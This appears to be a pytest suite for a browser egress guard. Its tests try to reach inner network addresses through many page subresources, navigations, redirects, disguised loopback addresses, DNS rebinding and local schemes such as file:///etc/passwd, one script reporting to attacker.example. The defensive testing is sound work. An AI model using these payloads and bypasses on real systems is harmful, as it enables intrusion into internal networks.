# ruff: noqa: RUF001 - look-alike characters are what is tested
"""A real Chromium behind the guard, and every way we know to make it reach the inner network.

Each way asks for a name of its own that leads to an inner address, so the proxy's record shows that the attack was
really tried, and the canaries that it came to nothing.
"""

from collections.abc import Callable, Mapping
from ipaddress import ip_address

import pytest
from playwright.async_api import Error, Page

from cynthia_pipeline.browser.egress import EgressPolicy, Passage, admit_page
from cynthia_pipeline.errors import ErrorCode

from .conftest import INNER, PUBLIC, Canaries, Names, Site, World, guarded_browser, opened

pytestmark = pytest.mark.asyncio(loop_scope="module")

Attack = Callable[[Mapping[str, str]], None]


async def go(page: Page, url: str) -> None:
    """Follows an address, whatever comes of it."""
    try:
        await page.goto(url, wait_until="commit", timeout=20_000)
    except Error as error:
        if "net::ERR" not in error.message and "interrupted" not in error.message:
            raise


def assert_refused(passage: Passage, host: str, code: ErrorCode = ErrorCode.ADDRESS_REFUSED) -> None:
    refusal = passage.refusal_for(host)
    assert refusal is not None, f"{host} was never refused; refused: {passage.refusals}"
    assert refusal.code is code


SUBRESOURCES = {
    "img": '<img src="{url}">',
    "img-https": '<img src="https://{host}:{tls}/">',
    "picture": '<picture><source srcset="{url}"><img></picture>',
    "iframe": '<iframe src="{url}"></iframe>',
    "iframe-https": '<iframe src="https://{host}:{tls}/"></iframe>',
    "frame-refresh": '<iframe src="/refresh-to-frame-refresh"></iframe>',
    "frame-redirect": '<iframe src="/redirect-to-frame-redirect"></iframe>',
    "srcdoc": "<iframe srcdoc='<img src={url}>'></iframe>",
    "sandboxed": '<iframe sandbox="allow-scripts" srcdoc="<script>fetch(`{url}`)</script>"></iframe>',
    "script": '<script src="{url}"></script>',
    "module": '<script type="module">import "{url}"</script>',
    "stylesheet": '<link rel="stylesheet" href="{url}">',
    "css-import": '<style>@import url("{url}");</style>',
    "css-background": '<style>#b {{ background: url("{url}") }}</style><p id="b">b</p>',
    "font": '<style>@font-face {{ font-family: f; src: url("{url}") }}</style><p style="font-family: f">f</p>',
    "video": '<video src="{url}" preload="auto"></video>',
    "audio": '<audio src="{url}" preload="auto"></audio>',
    "poster": '<video poster="{url}"></video>',
    "track": '<video crossorigin src="/silence"><track default src="{url}"></video><script>'
    'document.querySelector("track").track.mode = "showing"</script>',
    "object": '<object data="{url}"></object>',
    "embed": '<embed src="{url}">',
    "svg-image": '<svg><image href="{url}"/></svg>',
    "input": '<input type="image" src="{url}">',
    "preload": '<link rel="preload" as="image" href="{url}">',
    "modulepreload": '<link rel="modulepreload" href="{url}">',
    "prefetch": '<link rel="prefetch" href="{url}">',
    "preconnect": '<link rel="preconnect" href="https://{host}:{tls}">',
    "fetch": '<script>fetch("{url}").catch(() => 0)</script>',
    "fetch-opaque": '<script>fetch("{url}", {{mode: "no-cors"}}).catch(() => 0)</script>',
    "fetch-post": '<script>fetch("{url}", {{method: "POST", body: "x", mode: "no-cors"}}).catch(() => 0)</script>',
    "fetch-keepalive": '<script>fetch("{url}", {{keepalive: true, mode: "no-cors"}}).catch(() => 0)</script>',
    "fetch-redirect": '<script>fetch("/redirect-to-fetch-redirect", {{mode: "no-cors"}}).catch(() => 0)</script>',
    "xhr": '<script>x = new XMLHttpRequest(); x.open("GET", "{url}"); x.send()</script>',
    "beacon": '<script>navigator.sendBeacon("{url}", "x")</script>',
    "event-source": '<script>new EventSource("{url}")</script>',
    "websocket": '<script>new WebSocket("ws://{host}:{port}/")</script>',
    "websocket-tls": '<script>new WebSocket("wss://{host}:{tls}/")</script>',
    "worker": '<script>new Worker(URL.createObjectURL(new Blob([`fetch("{url}")`])))</script>',
    "worker-import": '<script>new Worker(URL.createObjectURL(new Blob([`importScripts("{url}")`])))</script>',
    "worker-socket": '<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket("ws://{host}:{port}/")`])))'
    "</script>",
    "image-object": '<script>new Image().src = "{url}"</script>',
    "form-frame": '<form id="f" method="post" action="{url}" target="t"><input name="a"></form>'
    '<iframe name="t"></iframe><script>document.getElementById("f").submit()</script>',
    "ping": '<a id="p" href="#x" ping="{url}">p</a><script>p.click()</script>',
    "link-header": "",
    "report-uri": "",
}
"""Everything a page can load by itself; two come with the response's head."""

NOT_BY_EVERY_BROWSER = {"ping", "preconnect"}
"""A whole Chrome does not send pings, nor connect on a guess behind a proxy; a headless shell tries both."""


async def test_subresources(world: World, attack: Attack) -> None:
    hosts = {name: f"{name}.inner.example" for name in SUBRESOURCES}
    addresses = [address for address in world.canaries.addresses if "." in address]
    attack({host: addresses[i % len(addresses)] for i, host in enumerate(hosts.values())})
    port, tls = world.canaries.port, world.canaries.tls_port

    def url(name: str) -> str:
        return f"http://{hosts[name]}:{port}/{name}"

    for name in ("fetch-redirect", "frame-redirect"):
        world.put(f"/redirect-to-{name}", "", f"302 Found\r\nLocation: {url(name)}")
    world.put("/refresh-to-frame-refresh", f'<meta http-equiv="refresh" content="0;url={url("frame-refresh")}">')
    page_url = world.put(
        "/",
        "<!doctype html><title>attack</title>"
        + "".join(
            markup.format(url=url(name), host=hosts[name], port=port, tls=tls) for name, markup in SUBRESOURCES.items()
        )
        + '<script src="/reported-violation.js"></script>',
        "200 OK\r\nContent-Type: text/html\r\n"
        f"Link: <{url('link-header')}>; rel=preload; as=image\r\n"
        f"Content-Security-Policy-Report-Only: script-src-elem 'unsafe-inline'; report-uri {url('report-uri')}",
    )
    wanted = {host for name, host in hosts.items() if name not in NOT_BY_EVERY_BROWSER}
    async with opened(world) as (page, passage):
        await go(page, page_url)
        try:
            await world.names.wait_until(lambda asked: wanted <= set(asked))
        except TimeoutError:
            pytest.fail(f"never tried: {wanted - set(world.names.asked)}")
        refused = {refusal.host: refusal for refusal in passage.refusals}
        assert wanted <= set(refused) <= set(hosts.values())
        assert {refusal.code for refusal in refused.values()} == {ErrorCode.ADDRESS_REFUSED}


NAVIGATIONS = {
    "direct": None,
    "location": "<script>location = '{url}'</script>",
    "replace": "<script>location.replace('{url}')</script>",
    "meta-refresh": "<meta http-equiv='refresh' content='0;url={url}'>",
    "form-get": "<form id=f action='{url}'></form><script>f.submit()</script>",
    "form-post": "<form id=f method=post action='{url}'><input name=a value=b></form><script>f.submit()</script>",
    "form-multipart": "<form id=f method=post enctype=multipart/form-data action='{url}'><input name=a></form>"
    "<script>f.submit()</script>",
    "window-open": "<script>open('{url}')</script>",
    "click-blank": "<a id=a target=_blank href='{url}'>a</a><script>a.click()</script>",
    "top-from-frame": "<iframe srcdoc=\"<script>top.location = '{url}'</script>\"></iframe>",
}


@pytest.mark.parametrize("way", NAVIGATIONS)
@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_navigations(world: World, attack: Attack, way: str, scheme: str) -> None:
    host = f"{way}-{scheme}.inner.example"
    attack({host: world.canaries.addresses[0]})
    port = world.canaries.port if scheme == "http" else world.canaries.tls_port
    url = f"{scheme}://{host}:{port}/"
    markup = NAVIGATIONS[way]
    async with opened(world) as (page, passage):
        await go(page, url if markup is None else world.put("/", markup.format(url=url)))
        await world.names.wait_until(lambda asked: host in asked)
        assert_refused(passage, host)


@pytest.mark.parametrize("status", ["301 Moved", "302 Found", "303 See Other", "307 Temporary", "308 Permanent"])
@pytest.mark.parametrize("hops", [1, 5])
async def test_redirects(world: World, attack: Attack, status: str, hops: int) -> None:
    attack({"end.inner.example": world.canaries.addresses[0]})
    for hop in range(hops):
        onward = f"/hop{hop + 1}" if hop + 1 < hops else f"http://end.inner.example:{world.canaries.port}/"
        world.put(f"/hop{hop}", "", f"{status}\r\nLocation: {onward}")
    async with opened(world) as (page, passage):
        await go(page, world.at("/hop0"))
        assert_refused(passage, "end.inner.example")


async def test_refresh_header(world: World, attack: Attack) -> None:
    attack({"end.inner.example": world.canaries.addresses[0]})
    url = f"http://end.inner.example:{world.canaries.port}/"
    async with opened(world) as (page, passage):
        await go(page, world.put("/", "x", f"200 OK\r\nContent-Type: text/html\r\nRefresh: 0;url={url}"))
        await world.names.wait_until(lambda asked: "end.inner.example" in asked)
        assert_refused(passage, "end.inner.example")


@pytest.mark.parametrize("address", INNER)
async def test_every_inner_address_by_number(world: World, attack: Attack, address: str) -> None:
    if address not in world.canaries.addresses:
        pytest.skip("needs a network namespace of its own, to put a canary at this address")
    host = f"[{address}]" if ":" in address else address
    port, tls = world.canaries.port, world.canaries.tls_port
    async with opened(world) as (page, passage):
        await go(page, f"http://{host}:{port}/")
        refusal = passage.refusal_for(address, port)
        assert refusal is not None
        assert refusal.code is ErrorCode.ADDRESS_REFUSED
        await go(page, f"https://{host}:{tls}/")
        assert passage.refusal_for(address, tls) is not None
        await go(
            page,
            world.put(
                "/",
                f"<img src='http://{host}:{port}/'><script>"
                f"const tried = [fetch('http://{host}:{port}/'), fetch('https://{host}:{tls}/'),"
                f"new Promise((_, no) => new WebSocket('ws://{host}:{port}/').onerror = no)];"
                "Promise.allSettled(tried).then(all => fetch('/' + all.map(one => one.status).join('-')))</script>",
            ),
        )
        await world.site.wait_for("/rejected-rejected-rejected")


DISGUISES = """
    127.1 2130706433 0x7f.1 0177.0.0.1 0x7f000001 127。0。0。1 １２７.0.0.1 %31%32%37.0.0.1 127.0.0.1. 0
    [::ffff:127.0.0.1] [::127.0.0.1] [64:ff9b::7f00:1] [0:0:0:0:0:0:0:1] localhost LOCALHOST. a.localhost
""".split()  # noqa: SIM905 - a table


@pytest.mark.parametrize("disguise", DISGUISES)
async def test_loopback_in_disguise(world: World, attack: Attack, disguise: str) -> None:
    attack(dict.fromkeys(("localhost", "localhost.", "a.localhost"), "127.0.0.1"))
    async with opened(world) as (page, passage):
        await go(page, f"http://{disguise}:{world.canaries.port}/")
        assert [refusal.code for refusal in passage.refusals] == [ErrorCode.ADDRESS_REFUSED]


async def test_dns_rebinding(world: World, attack: Attack) -> None:
    """Public when the page is opened, inner when its script asks again: judged and dialled by the same answer."""
    inner = ip_address(world.canaries.addresses[0])
    world.names.answers["rebind.example"] = [(PUBLIC,), (inner,)]
    port = world.canaries.port
    world.put(
        "/",
        "<script>fetch('/again').then(r => r.status, () => 'failed')"
        ".then(s => fetch('http://attacker.example/outcome-' + s, {mode: 'no-cors'}))</script>",
        "200 OK\r\nContent-Type: text/html\r\nConnection: close",
    )
    async with opened(world) as (page, passage):
        await go(page, f"http://rebind.example:{port}/")
        await world.site.wait_for("/outcome-403")
        assert world.site.requests[0] == "/"
        assert "/again" not in world.site.requests
        assert_refused(passage, "rebind.example")


async def test_one_inner_address_among_public_ones_refuses_the_name(world: World, attack: Attack) -> None:
    world.names.answers["mixed.example"] = [(PUBLIC, ip_address(world.canaries.addresses[0]))]
    async with opened(world) as (page, passage):
        await go(page, f"http://mixed.example:{world.canaries.port}/")
        assert_refused(passage, "mixed.example")


async def test_speculation_and_dns_hints(world: World, attack: Attack) -> None:
    host = "hint.inner.example"
    attack({host: world.canaries.addresses[0]})
    url = f"http://{host}:{world.canaries.port}/"
    rules = f'{{"prefetch": [{{"urls": ["{url}"]}}], "prerender": [{{"urls": ["{url}"]}}]}}'
    markup = f"""<link rel="dns-prefetch" href="//{host}"><link rel="prerender" href="{url}">
        <script type="speculationrules">{rules}</script><img src="{url}">"""
    async with opened(world) as (page, passage):
        await go(page, world.put("/", markup))
        await world.names.wait_until(lambda asked: host in asked)
        assert_refused(passage, host)


LOCAL_SCHEMES = ["file:///etc/passwd", "chrome://version", "view-source:http://127.0.0.1/", "devtools://devtools/"]


@pytest.mark.parametrize("scheme", LOCAL_SCHEMES)
async def test_a_page_cannot_leave_for_another_scheme(world: World, attack: Attack, scheme: str) -> None:
    markup = f"""<iframe src="{scheme}"></iframe><img src="{scheme}"><a id=a href="{scheme}">a</a>
        <script>a.click(); open("{scheme}"); location = "{scheme}"
        fetch("{scheme}").catch(() => 0).then(() => fetch("/tried"))</script>"""
    async with opened(world) as (page, _):
        await go(page, world.put("/", markup))
        await world.site.wait_for("/tried")
        addresses = [frame.url for tab in page.context.pages for frame in tab.frames]
        assert not [url for url in addresses if url.startswith(("file:", "chrome:", "view-source:", "devtools:"))]
        assert "root:" not in await page.content()


async def test_nobody_gets_out_without_a_passage(world: World, attack: Attack) -> None:
    context = await world.browser.new_context()
    page = await context.new_page()
    for url in (world.put("/", "x"), f"http://127.0.0.1:{world.canaries.port}/", "https://attacker.example/"):
        await go(page, url)
    await context.close()
    assert world.names.asked == []
    assert world.site.requests == []


async def test_a_closed_passage_is_closed(world: World, attack: Attack) -> None:
    context = await world.browser.new_context()
    page = await context.new_page()
    with world.proxy.admit() as passage:
        await admit_page(page, passage)
        await go(page, world.put("/", "x"))
        assert world.site.requests
    world.site.requests.clear()
    await go(page, world.at("/later"))
    await context.close()
    assert world.site.requests == []


async def test_the_byte_limit_holds_from_outside(world: World, attack: Attack) -> None:
    url = world.put("/", "<img src=/a.png>" + "x" * 2_000_000)
    async with opened(world, byte_limit=1_000_000) as (page, passage):
        async with page.expect_event("requestfailed"):
            await go(page, url)
        assert_refused(passage, "attacker.example", ErrorCode.PAGE_TOO_LARGE)
        assert passage.bytes_received < 2_000_000


async def test_the_canaries_would_have_sung(canaries: Canaries, site: Site) -> None:
    """The same ways, with the inner network allowed: they arrive, so the silence elsewhere means something."""
    canaries.hits.clear()
    policy = EgressPolicy.allowing(["127.0.0.1", "inner.example"])
    names = Names({"inner.example": [(ip_address("127.0.0.1"),)]})
    async with guarded_browser(policy, names, site, canaries) as world:
        markup = (
            f"<img src='http://inner.example:{canaries.port}/'><script>"
            f"fetch('http://127.0.0.1:{canaries.port}/').then(r => r.text()).then(t => fetch('/' + t))</script>"
        )
        async with opened(world) as (page, passage):
            await go(page, world.put("/", markup))
            await site.wait_for("/canary")
            await world.names.wait_until(lambda asked: "inner.example" in asked)
            assert passage.refusals == ()
    assert canaries.hits
    canaries.hits.clear()
